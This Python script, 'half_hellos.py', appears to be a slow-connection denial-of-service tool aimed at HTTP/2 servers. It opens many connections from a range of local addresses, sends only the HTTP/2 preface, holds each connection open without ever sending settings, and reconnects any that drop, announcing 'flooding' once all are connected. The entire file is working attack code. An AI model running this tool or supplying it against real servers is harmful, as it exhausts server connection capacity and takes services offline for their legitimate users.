"""half_hellos.py HOST PORT PREFIX COUNT: connects from COUNT addresses; each connection sends the beginning of HTTP/2 only.

A connection that is dropped comes again from its address. Prints "flooding" once all have connected. The addresses must
be this machine's (`ip route add local`).
"""

import resource
import selectors
import socket
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"  # its settings should follow, but never come
IPV6_FREEBIND = 78  # the kernel's number; Python has no name for it


def connect(selector, host, port, address):
    connection = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    connection.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    connection.bind((address, 0))
    connection.settimeout(10)
    try:
        connection.connect((host, port))
        connection.sendall(PREFACE)
    except OSError:
        connection.close()
        return
    connection.setblocking(False)
    selector.register(connection, selectors.EVENT_READ, address)


def main():
    host, port, prefix, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 100), hard))
    selector = selectors.DefaultSelector()
    for i in range(count):
        connect(selector, host, port, prefix + ("%d" % (i % 254 + 1) if "." in prefix else "%x" % (i + 1)))
    print("flooding", flush=True)
    while True:
        for key, _ in selector.select():
            try:
                if key.fileobj.recv(4096):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            selector.unregister(key.fileobj)
            key.fileobj.close()
            connect(selector, host, port, key.data)


main()
